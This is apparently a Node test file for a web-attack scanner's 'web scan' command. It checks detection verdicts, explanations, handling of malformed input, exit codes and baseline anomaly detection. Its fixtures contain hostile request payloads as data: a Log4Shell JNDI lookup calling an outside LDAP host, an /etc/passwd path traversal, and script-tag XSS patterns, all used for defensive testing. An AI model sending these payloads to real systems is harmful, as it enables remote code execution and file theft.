import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test from 'node:test';
import { corpus } from '../../testing/corpora.js';
import { runCli } from '../../testing/run-cli.js';

const dir = mkdtempSync(join(tmpdir(), 'vigie-web-scan-'));
test.after(() => rmSync(dir, { recursive: true, force: true }));

const KEYS = ['i', 'attack', 'classes', 'rules', 'score'];
const lines = (path: string, n: number): string[] => readFileSync(corpus(path), 'utf8').split('\n').filter((l) => l !== '').slice(0, n);

test('web scan: one verdict per input line, in order; real attacks flagged, real normal traffic not', async () => {
  const normal = lines('http/csic2010/normalTrafficTraining.jsonl', 300);
  // Unmistakable attacks a user would expect any WAF to flag: script tags, JNDI lookups, /etc/passwd.
  const attacks = ['xss', 'log4shell', 'path_traversal', 'lfi'].flatMap((cls) => lines('http/payload-lists/payloads.jsonl', 40000)
    .filter((l) => l.includes(`"class": "${cls}"`) && /"payload": "[^"]*(?:<script>|\$\{jndi:ldap|\.\.\/etc\/passwd)/.test(l)).slice(0, 5));
  const input = [...normal.slice(0, 150), ...attacks, ...normal.slice(150)];
  const file = join(dir, 'mixed.jsonl');
  writeFileSync(file, input.join('\n') + '\n');
  const r = await runCli(['web', 'scan', '--requests', file]);
  assert.equal(r.code, 0, r.stderr);
  const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
  assert.equal(out.length, input.length);
  out.forEach((v, k) => {
    assert.deepEqual(Object.keys(v), KEYS);
    assert.equal(v.i, k);
  });
  const flagged = out.filter((v) => v.attack === true).map((v) => v.i as number);
  assert.deepEqual(flagged, attacks.map((_, k) => 150 + k), 'exactly the attack lines are flagged');
  for (const v of out) assert.equal(v.score === 0, v.attack === false, 'score is 0 exactly when clean');
  assert.match(r.stderr, /320 lines, 20 attacks/);
});

test('web scan: headers as an object or pairs, body or data; --explain says which rule, where and what', async () => {
  const file = join(dir, 'shapes.jsonl');
  writeFileSync(file, [
    JSON.stringify({ method: 'GET', uri: '/', headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' } }),
    JSON.stringify({ method: 'GET', uri: '/', headers: [['user-agent', 'sqlmap/1.8.2#stable (https://sqlmap.org)']] }),
    JSON.stringify({ method: 'POST', uri: '/api/login', data: 'user=admin&next=..%2F..%2F..%2Fetc%2Fpasswd' }),
    JSON.stringify({ method: 'POST', uri: '/api/login', body: 'user=${jndi:ldap://198.51.100.7:1389/a}' }),
  ].join('\n'));
  const r = await runCli(['web', 'scan', '--requests', file, '--explain']);
  assert.equal(r.code, 0, r.stderr);
  const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { classes: string[]; findings: Array<Record<string, string>> });
  assert.ok(out[0]!.classes.includes('scanner'));
  assert.ok(out[1]!.classes.includes('scanner'));
  assert.ok(out[2]!.classes.includes('path_traversal'));
  assert.ok(out[3]!.classes.includes('log4shell'));
  const jndi = out[3]!.findings.find((f) => f.class === 'log4shell')!;
  assert.equal(jndi.location, 'body:user');
  assert.match(jndi.fragment!, /\$\{jndi:/);
  assert.match(jndi.reason!, /in body parameter `user`/);
  // The same reason in French, rendered from its code, with the same evidence quoted.
  assert.match(jndi.reason_fr!, /^«\u00a0\$\{jndi:.*\u00a0» dans le paramètre du corps «\u00a0user\u00a0»$/);
});

test('web scan: a malformed line gets a verdict and a file:line report; the rest is scanned', async () => {
  const file = join(dir, 'bad.jsonl');
  writeFileSync(file, '{"method":"GET","uri":"/"}\nnot json\n\n{"method":"GET"}\r\n{"method":"GET","uri":"/.git/config"}');
  const r = await runCli(['web', 'scan', '--requests', file]);
  assert.equal(r.code, 0, r.stderr);
  const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { i: number; attack: boolean });
  assert.deepEqual(out.map((v) => [v.i, v.attack]), [[0, false], [1, false], [2, false], [3, false], [4, true]]);
  assert.match(r.stderr, new RegExp(`${file.replace(/[.\\/]/g, '\\$&')}:2: not valid JSON`));
  assert.match(r.stderr, /bad\.jsonl:4: no "uri" string/);
  assert.match(r.stderr, /5 lines, 1 attacks, 2 malformed/);
});

test('web scan: stdin works; a missing file is one line and exit code 3; usage errors exit 2', async () => {
  const fromStdin = await runCli(['web', 'scan', '--requests', '-', '--quiet'], { stdin: '{"method":"GET","uri":"/wp-login.php"}\n' });
  assert.equal(fromStdin.code, 0);
  assert.equal(fromStdin.stderr, '');
  assert.equal(JSON.parse(fromStdin.stdout).attack, true);
  const missing = await runCli(['web', 'scan', '--requests', join(dir, 'nope.jsonl')]);
  assert.equal(missing.code, 3);
  assert.equal(missing.stdout, '');
  assert.equal(missing.stderr.trim().split('\n').length, 1);
  assert.match(missing.stderr, /nope\.jsonl: no such file/);
  assert.equal((await runCli(['web', 'scan'])).code, 2);
});

test('web scan --baseline: a request that leaves the learned shape of the site is an anomaly', async () => {
  // The baseline needs a fact behind many requests before it trusts it: train on half the file.
  const normal = lines('http/csic2010/normalTrafficTraining.jsonl', 18100);
  const train = join(dir, 'train.jsonl');
  writeFileSync(train, normal.slice(0, 18000).join('\n') + '\n');
  const baseline = join(dir, 'baseline.json');
  const learn = await runCli(['web', 'learn', '--requests', train, '--out', baseline]);
  assert.equal(learn.code, 0, learn.stderr);
  // A numeric price turned into text: no signature needed, the baseline knows `precio` is a number.
  const tampered = JSON.stringify({ method: 'GET', uri: '/tienda1/publico/anadir.jsp?id=3&nombre=Vino+Rioja&precio=cien&cantidad=55&B1=A%F1adir+al+carrito' });
  const file = join(dir, 'held-out.jsonl');
  writeFileSync(file, [...normal.slice(18000, 18100), tampered].join('\n') + '\n');
  const r = await runCli(['web', 'scan', '--requests', file, '--baseline', baseline]);
  assert.equal(r.code, 0, r.stderr);
  const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { attack: boolean; classes: string[] });
  assert.equal(out.length, 101);
  assert.ok(out[100]!.classes.includes('anomaly'), JSON.stringify(out[100]));
  const missing = await runCli(['web', 'scan', '--requests', file, '--baseline', join(dir, 'none.json')]);
  assert.equal(missing.code, 3);
  assert.match(missing.stderr, /--baseline .*none\.json: no such file/);
});
